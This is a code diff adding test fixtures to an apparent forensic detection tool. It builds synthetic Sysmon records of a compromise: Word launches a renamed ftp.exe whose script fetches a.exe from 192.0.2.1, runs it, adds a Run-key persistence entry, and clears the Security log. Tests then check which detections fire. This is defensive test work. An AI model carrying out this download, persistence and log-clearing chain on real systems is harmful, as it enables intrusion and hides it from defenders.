@@ -21,6 +21,81 @@ fn matter(
     Matter { about, files: files.iter().map(|(path, content)| (*path, content.to_vec())).collect(), speak, silent }
 }
 
+/// A record of Sysmon as a line of an export.
+fn sysmon(event_id: u32, time: &str, data: &[(&str, &str)]) -> String {
+    let mut fields = serde_json::Map::new();
+    fields.insert("UtcTime".to_owned(), time.into());
+    fields.extend(data.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())));
+    let (provider, channel) = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational");
+    record(provider, channel, event_id, time, &fields.into())
+}
+
+fn record(provider: &str, channel: &str, event_id: u32, time: &str, data: &serde_json::Value) -> String {
+    let time = format!("{}Z", time.replace(' ', "T"));
+    let system = serde_json::json!({
+        "Provider": { "#attributes": { "Name": provider } }, "EventID": event_id, "Channel": channel, "Computer": "PC1",
+        "EventRecordID": event_id, "TimeCreated": { "#attributes": { "SystemTime": time } },
+    });
+    format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } }))
+}
+
+/// A host whose log tells of a client under another name, below Word, of what it fetched, started and left behind.
+fn recorded() -> Vec<(&'static str, Vec<u8>)> {
+    let guid = |number: u32| format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}");
+    let (word, client, fetched) = (guid(1), guid(2), guid(3));
+    let start = |time: &str, own: &str, image: &str, original: &str, line: &str, parent: &str, above: &str| {
+        let data = [
+            ("ProcessGuid", own),
+            ("ProcessId", "10"),
+            ("Image", image),
+            ("OriginalFileName", original),
+            ("CommandLine", line),
+            ("CurrentDirectory", "C:\\Users\\Public\\"),
+            ("User", "PC1\\kim"),
+            ("ParentProcessGuid", parent),
+            ("ParentImage", above),
+        ];
+        sysmon(1, time, &data)
+    };
+    let (office, tool, program) =
+        ("C:\\Program Files\\Office\\WINWORD.EXE", "C:\\Users\\Public\\u.exe", "C:\\Users\\Public\\a.exe");
+    let log = [
+        start("2024-05-12 10:00:00.000", &word, office, "WinWord.exe", "WINWORD.EXE a.docm", &guid(9), "C:\\e.exe"),
+        start("2024-05-12 10:00:05.000", &client, tool, "ftp.exe", "u.exe -n -s:a.txt", &word, office),
+        sysmon(
+            11,
+            "2024-05-12 10:00:07.000",
+            &[("ProcessGuid", &client), ("Image", tool), ("TargetFilename", program)],
+        ),
+        start("2024-05-12 10:00:09.000", &fetched, program, "-", "a.exe", &word, office),
+        sysmon(
+            13,
+            "2024-05-12 10:00:10.000",
+            &[
+                ("EventType", "SetValue"),
+                ("ProcessGuid", &fetched),
+                ("Image", program),
+                ("TargetObject", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a"),
+                ("Details", program),
+            ],
+        ),
+        record(
+            "Microsoft-Windows-Eventlog",
+            "Security",
+            1102,
+            "2024-05-12 11:00:00.000",
+            &serde_json::json!({ "SubjectUserName": "kim" }),
+        ),
+    ];
+    let script = b"open 192.0.2.1\nuser bob pw\nbinary\nget a.exe\nbye\n".to_vec();
+    vec![
+        ("Windows/System32/x.ini", Vec::new()),
+        ("Users/Public/a.txt", script),
+        ("Users/Public/a.exe", b"MZ".to_vec()),
+        ("Windows/Temp/sysmon.jsonl", log.concat().into_bytes()),
+    ]
+}
+
 /// A program with an export table that gives it a name.
 fn exporting(name: &str, program: &[u8]) -> Vec<u8> {
     let mut file = program.to_vec();
@@ -286,6 +361,31 @@ fn matters() -> Vec<Matter> {
             &["transfer.upload"],
             &["payload.unsigned-executable"],
         ),
+        Matter {
+            about: "a renamed client below Word, and what became of what it fetched",
+            files: recorded(),
+            speak: &[
+                "run.renamed-client",
+                "run.unusual-parent",
+                "payload.executed",
+                "payload.persisted",
+                "log.cleared",
+                "transfer.download",
+            ],
+            silent: &["launch.script-gone"],
+        },
+        Matter {
+            about: "the same host without its log",
+            files: recorded().into_iter().filter(|(path, _)| !path.contains("sysmon")).collect(),
+            speak: &["transfer.download"],
+            silent: &[
+                "run.renamed-client",
+                "run.unusual-parent",
+                "payload.executed",
+                "payload.persisted",
+                "log.cleared",
+            ],
+        },
         matter(
             "prose",
             &[("a.txt", b"open the door and get coffee, bye")],
